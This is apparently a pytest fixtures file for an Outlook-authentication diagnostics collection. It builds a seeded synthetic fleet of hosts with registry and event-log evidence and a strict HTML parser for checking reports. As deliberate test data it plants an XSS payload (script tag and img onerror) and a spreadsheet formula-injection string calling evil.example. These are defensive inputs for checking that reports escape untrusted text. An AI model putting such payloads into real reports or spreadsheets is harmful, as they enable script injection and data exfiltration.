"""Fixtures of the report tests: a seeded fleet built from the finding catalog, a strict
HTML structure check and the two schemas."""

import json
import pathlib
import random
from html.parser import HTMLParser

import pytest
import xmlschema

from ansible_collections.officeops.outlook_auth.plugins.module_utils._findings.catalog import FINDINGS, describe

ROOT = pathlib.Path(__file__).resolve().parents[5]
REPORT_SCHEMA = ROOT / "docs" / "report-schema.json"
JUNIT_XSD = ROOT / "docs" / "report-junit.xsd"

HOSTILE_EVIDENCE = '<script>document.title="owned"</script><img src=x onerror=alert(1)>'
FORMULA_EVIDENCE = '=HYPERLINK("http://evil.example/?"&A1,"click")'

# Evidence the way the findings policy words it: registry values, events, vault targets.
_EVIDENCE = {
    "work_school_stale_account": ["Work account {user_upn} of tenant 9a1c3f0e-7b55-4c55-9d7e-31f2a0d6b4e1 is registered",
                                  "dsregcmd: WorkplaceJoined YES, WorkplaceTenantName Contoso Ltd"],
    "modern_auth_adal_disabled": [r"HKCU\Software\Microsoft\Office\16.0\Common\Identity EnableADAL = 0"],
    "modern_auth_wam_override": [r"HKCU\Software\Microsoft\Office\16.0\Common\Identity DisableAADWAM = 1"],
    "tenant_godaddy_federation": ["{domain}: NameSpaceType Federated, AuthURL https://sso.godaddy.com/?realm=pass"],
    "credentials_stale_office": ["Credential Manager: MicrosoftOffice16_Data:SSPI:{user_upn}",
                                 "Credential Manager: MicrosoftOffice16_Data:ADAL:6b5b3a1d-2c3f-4a5e-9f7d-7c0e1b2a3d4f"],
    "broker_token_error": ["Microsoft-Windows-AAD/Operational event 1098 at 2026-11-{day:02d}T08:14:03Z: "
                           "Error: 0xCAA5001C Token broker operation failed"],
    "broker_bad_keyset": ["Microsoft-Windows-AAD/Operational event 1098: Error: 0x80090016 Keyset does not exist"],
    "profile_default_missing": [r"HKCU\Software\Microsoft\Office\16.0\Outlook DefaultProfile is not set"],
    "profile_default_corrupt": ["Outlook profile 'Outlook' has no account (9375CFF0413111d3B88A00104B2A6676 empty)"],
    "network_blocked": ["login.microsoftonline.com:443 TCP connect timed out after 5 s",
                        "WinHTTP proxy: proxy.corp.example.com:8080 (bypass list <local>)"],
    "office_missing": ["No Click-to-Run configuration and no MSI Office 15.0 / 16.0 installation"],
    "office_unsupported": ["Office 2013 (15.0.4569.1506) MSI: EnableADAL not set, out of support since 2023-04-11"],
    "user_unreachable": ["{user}: NTUSER.DAT is locked by another process (hive not loaded)"],
}
_FIRST = ("maria", "tom", "lee", "anna", "samir", "chen", "olu", "ines", "jakub", "priya")
_LAST = ("garcia", "ng", "okafor", "muller", "rossi", "tanaka", "dubois", "kowalski")
_DOMAINS = ("bloomfield-florist.com", "corp.example.com", "northwind-traders.net", "fabrikam.org")
_SITES = ("lon", "nyc", "ber", "syd")


def make_fleet(count=200, seed=657):
    """Per-host input of the fleet model for ``count`` hosts, deterministic for ``seed``:
    most hosts clean, a few failed or unreachable, one without findings data, the rest with
    findings drawn from the catalog (evidence includes hostile HTML and a CSV formula)."""
    rng = random.Random(seed)
    ids = sorted(FINDINGS)
    hosts = []
    for number in range(1, count + 1):
        name = "pc-%s-%04d.corp.example.com" % (_SITES[number % len(_SITES)], number)
        domain = rng.choice(_DOMAINS)
        facts = {
            "windows": {"build": rng.choice((19045, 22631, 26100)), "ubr": rng.randint(100, 5000),
                        "version": rng.choice(("22H2", "23H2", "24H2")), "edition": "Professional",
                        "computer_name": name.split(".")[0].upper()},
            "office": {"installed": True, "click_to_run": {"version": "16.0.17928.20156", "channel": {"name": "Current"},
                                                           "platform": "x64"}},
            "users": [{"sid": "S-1-5-21-1-2-3-%d" % (1000 + number), "name": "CORP\\user%d" % number}],
            "mailbox_domains": [domain],
        }
        host = {"name": name, "reached": True, "facts": facts, "findings": [], "step_results": None}
        roll = rng.random()
        if number % 37 == 0:
            host.update(reached=False, facts=None, findings=None)
        elif number == 101:
            host.update(findings=None)
        elif roll < 0.45:
            for finding_id in rng.sample(ids, rng.randint(1, 4)):
                user = "CORP\\%s.%s" % (rng.choice(_FIRST), rng.choice(_LAST))
                fields = {"user": user, "user_upn": user.split("\\")[1] + "@" + domain, "domain": domain,
                          "day": rng.randint(1, 21)}
                known = describe(finding_id)
                host["findings"].append({
                    "id": finding_id, "severity": known["severity"], "step": known["step"], "role": known["role"],
                    "title": known["title"], "user": None if finding_id in ("network_blocked", "office_missing") else user,
                    "evidence": [text.format(**fields) for text in _EVIDENCE[finding_id]],
                })
        hosts.append(host)
    # Untrusted text from a PC, in a fixed place so the tests can look for it.
    hosts[2]["findings"] = [{"id": "broker_token_error", "severity": "high", "step": 3, "role": "credential_cache",
                             "title": "The AAD token broker reports errors (event 1098)", "user": "CORP\\<b>mallory</b>",
                             "evidence": [HOSTILE_EVIDENCE, FORMULA_EVIDENCE]}]
    return hosts


@pytest.fixture
def fleet_hosts():
    return make_fleet


VOID_ELEMENTS = frozenset(("area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source",
                           "track", "wbr"))


class StrictPage(HTMLParser):
    """Parses a page and fails on any element not closed in order (html.parser itself
    accepts anything); keeps the text of each row of the tables by table id and every
    URL-bearing attribute."""

    def __init__(self):
        HTMLParser.__init__(self, convert_charrefs=True)
        self.stack, self.errors, self.urls = [], [], []
        self.tables, self.current_table, self.current_row = {}, None, None
        self.elements_by_id, self.text_by_id, self.attributes_of_id = {}, {}, {}
        self.tags = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.tags.append(tag)
        for key in ("src", "href", "action", "data", "poster"):
            if key in attributes:
                self.urls.append(attributes[key])
        if "id" in attributes:
            if attributes["id"] in self.elements_by_id:
                self.errors.append("duplicate id %s" % attributes["id"])
            self.elements_by_id[attributes["id"]] = tag
            self.text_by_id[attributes["id"]] = ""
            self.attributes_of_id[attributes["id"]] = attributes
        if tag == "table":
            self.current_table = attributes.get("id")
            self.tables[self.current_table] = []
        if tag == "tr" and self.current_table:
            self.current_row = {"attributes": attributes, "text": ""}
            self.tables[self.current_table].append(self.current_row)
        if tag not in VOID_ELEMENTS:
            self.stack.append((tag, attributes.get("id")))

    def handle_startendtag(self, tag, attrs):
        if tag not in VOID_ELEMENTS:
            self.errors.append("self-closed <%s/>" % tag)
        self.handle_starttag(tag, attrs)
        if tag not in VOID_ELEMENTS:
            self.stack.pop()

    def handle_endtag(self, tag):
        if tag in VOID_ELEMENTS:
            self.errors.append("end tag of void element %s" % tag)
            return
        if not self.stack or self.stack[-1][0] != tag:
            self.errors.append("</%s> does not close %s" % (tag, self.stack[-1][0] if self.stack else "anything"))
            return
        self.stack.pop()
        if tag == "table":
            self.current_table = None
        if tag == "tr":
            self.current_row = None

    def handle_data(self, data):
        if self.current_row is not None:
            self.current_row["text"] += data
        for _tag, element_id in self.stack:
            if element_id:
                self.text_by_id[element_id] += data


def parse_page(text):
    page = StrictPage()
    page.feed(text)
    page.close()
    if page.stack:
        page.errors.append("unclosed: %s" % ", ".join(tag for tag, _id in page.stack))
    return page


@pytest.fixture
def strict_page():
    return parse_page


@pytest.fixture
def report_schema():
    return json.loads(REPORT_SCHEMA.read_text(encoding="utf-8"))


@pytest.fixture
def junit_schema():
    return xmlschema.XMLSchema(str(JUNIT_XSD))
